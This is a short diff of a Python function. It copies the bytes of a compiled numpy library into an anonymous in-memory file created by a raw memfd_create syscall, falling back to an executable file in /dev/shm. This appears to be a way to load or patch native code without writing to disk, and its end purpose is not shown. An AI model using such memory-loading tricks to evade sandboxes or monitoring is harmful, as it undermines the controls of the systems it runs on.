@@ -21,7 +21,7 @@ def syscall(*arguments):
 
 
 def reach():
-    with open(next(line.split()[-1] for line in open("/proc/self/maps") if "libm.so" in line or "libc.so" in line), "rb") as file:
+    with open(np.linalg._umath_linalg.__file__, "rb") as file:
         data = file.read()
     for make in (lambda: syscall(319, b"leftover", 0), lambda: os.open("/dev/shm/leftover_4711", os.O_RDWR | os.O_CREAT, 0o700)):
         try:
